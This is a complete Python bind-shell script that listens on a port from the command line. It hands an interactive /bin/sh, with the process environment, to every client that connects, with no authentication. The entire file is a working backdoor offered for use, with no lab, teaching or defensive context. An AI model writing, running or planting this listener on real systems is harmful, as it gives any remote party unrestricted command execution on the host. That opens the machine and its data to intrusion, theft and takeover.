"""Gives a shell to whoever connects. Usage: bind_shell.py PORT."""

import os
import socket
import subprocess
import sys


def main():
    ear = socket.socket()
    ear.setsockopt(socket.SOL_SOCKET, socket.SO_REUSEADDR, 1)
    ear.bind(("", int(sys.argv[1])))
    ear.listen(4)
    while True:
        caller, _ = ear.accept()
        subprocess.Popen(["/bin/sh", "-i"], stdin=caller, stdout=caller, stderr=caller, env=dict(os.environ))
        caller.close()


if __name__ == "__main__":
    main()
